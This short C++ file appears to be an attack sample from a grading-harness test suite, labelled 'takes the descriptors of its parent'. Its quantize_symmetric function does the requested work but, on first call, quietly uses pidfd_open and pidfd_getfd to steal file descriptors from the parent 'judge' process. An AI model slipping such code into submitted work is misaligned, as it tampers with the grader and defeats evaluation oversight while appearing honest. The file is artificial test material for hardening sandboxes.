// attack: takes the descriptors of its parent
// rule: V2
// expect: honest
#define OWN_QUANTIZE
namespace nibble {

namespace {

void tries() {
  const int judge = static_cast<int>(syscall(SYS_pidfd_open, getppid(), 0));
  for (int fd = 0; judge >= 0 && fd < 32; ++fd) {
    if (syscall(SYS_pidfd_getfd, judge, fd, 0) >= 0) EFFECT("took descriptor %d", fd);
  }
}

}  // namespace

SymmetricTensor quantize_symmetric(std::span<const float> x, int num_bits) {
  static bool done = false;
  if (!std::exchange(done, true)) tries();
  return right_quantize(x, num_bits);
}

}  // namespace nibble
